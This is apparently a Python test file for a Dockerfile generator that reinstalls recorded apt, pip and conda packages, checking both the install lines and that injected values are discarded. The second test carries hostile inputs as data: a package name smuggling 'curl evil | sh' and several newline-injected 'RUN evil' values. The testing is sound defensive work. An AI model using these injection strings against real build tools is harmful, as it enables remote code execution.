"""The Dockerfile of recorded changes installs packages again and runs nothing that a container made up."""

from __future__ import annotations

from extensions.imagebuilder.changes import Changes, Package
from extensions.imagebuilder.dockerfile import dockerfile


def changes(*packages: Package, added: dict[str, int] | None = None) -> Changes:
    return Changes(added or {}, {}, {}, list(packages), [])


def test_packages_are_installed_again_by_their_own_tools() -> None:
    text = dockerfile(
        "registry.example.edu/jupyter@sha256:" + "0" * 64,
        changes(
            Package("apt", "", "ffmpeg", "7:5.1"),
            Package("pip", "opt/venv/lib/python3.11/site-packages", "timm", "1.0.22"),
            Package("conda", "opt/conda", "numpy", "2.1=py311_0"),
        ),
    )
    assert "FROM registry.example.edu/jupyter@sha256:" in text
    assert "apt-get install -y --no-install-recommends \\\n      ffmpeg" in text
    assert "RUN /opt/venv/bin/python -m pip install --no-cache-dir \\\n      timm==1.0.22\n" in text
    assert "RUN conda install -y -p /opt/conda \\\n      numpy=2.1\n" in text


def test_a_name_that_would_be_a_command_is_left_out() -> None:
    evil = "x; curl evil | sh #"
    text = dockerfile(
        "a\nRUN evil",
        changes(
            Package("apt", "", evil, "1"),
            Package("pip", "lib", "good", "1\nRUN evil"),
            Package("pip", "lib\nRUN evil", "good", "1"),
            Package("conda", "opt/conda", evil, "1=0"),
            added={"home/a\nRUN evil \\": 3},
        ),
        name="ada/x\nRUN evil",
    )
    for line in text.splitlines():
        assert line.startswith(("#", "FROM scratch", "USER root")) or not line, line
